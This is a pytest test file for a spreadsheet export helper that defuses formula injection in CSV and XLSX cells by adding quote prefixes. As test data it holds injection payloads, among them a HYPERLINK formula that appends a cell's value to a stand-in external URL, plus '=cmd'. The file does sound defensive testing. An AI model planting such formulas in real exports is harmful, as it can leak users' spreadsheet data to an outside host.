"""capdev.lib.spreadsheets: exported cells never run as formulas in a spreadsheet."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from capdev.lib.spreadsheets import neutralise, set_text_cell, write_csv_rows, write_xlsx_rows

DANGEROUS = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("http://x.example/?"&A1,"Click")',
        '\'=HYPERLINK("http://x.example/?"&A1,"Click")',
    ),
    ("+41 22 799 61 11", "'+41 22 799 61 11"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


@pytest.mark.parametrize(("text", "expected"), DANGEROUS)
def test_it_prefixes_text_that_a_spreadsheet_would_read_as_a_formula(text, expected):
    assert neutralise(text) == expected


@pytest.mark.parametrize(
    "value",
    ["Ministry of Labour", "a=b", "", " =1", "'already quoted", "50 %", "1+1"],
)
def test_it_leaves_other_text_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value", [-5, -2.5, Decimal("-1.25"), 0, None, True, datetime.date(2024, 1, 1)]
)
def test_it_leaves_numbers_dates_and_none_as_they_are(value):
    assert neutralise(value) is value


def test_csv_rows_are_neutralised_header_included():
    text = write_csv_rows([["=cmd", -3, None], ["ok", "@x", 1.5]], header=["-h", "b", "c"])
    assert list(csv.reader(io.StringIO(text))) == [
        ["'-h", "b", "c"],
        ["'=cmd", "-3", ""],
        ["ok", "'@x", "1.5"],
    ]


def test_xlsx_cells_keep_their_text_as_text_never_formulas_and_numbers_stay_numbers():
    hyperlink = '=HYPERLINK("http://x.example/?"&A1,"Click")'
    data = write_xlsx_rows(
        [[hyperlink, -3], ["+41 22 799 61 11", 2.5], ["#N/A", None], ["plain", 0]],
        header=["Name", "=Value"],
        sheet_title="Results: a/b",
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "Results  a b"
    cells = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    assert cells == [
        [("Name", "s"), ("=Value", "s")],
        [(hyperlink, "s"), (-3, "n")],
        [("+41 22 799 61 11", "s"), (2.5, "n")],
        [("#N/A", "s"), (None, "n")],
        [("plain", "s"), (0, "n")],
    ]
    # Text a spreadsheet would read as a formula carries the quote prefix (kept text when
    # edited); other text does not need it.
    quoted = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.quotePrefix]
    assert quoted == ["B1", "A2", "A3"]
    assert sheet["A1"].font.bold and sheet["B1"].font.bold


def test_set_text_cell_works_on_an_ordinary_sheet():
    book = openpyxl.Workbook()
    sheet = book.active
    set_text_cell(sheet["A1"], "=1+1")
    set_text_cell(sheet["A2"], "-2+3")
    set_text_cell(sheet["A3"], "Ministry of Labour")
    set_text_cell(sheet["A4"], -5)
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [sheet[coordinate] for coordinate in ("A1", "A2", "A3", "A4")]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells] == [
        ("=1+1", "s", True),
        ("-2+3", "s", True),
        ("Ministry of Labour", "s", False),
        (-5, "n", False),
    ]
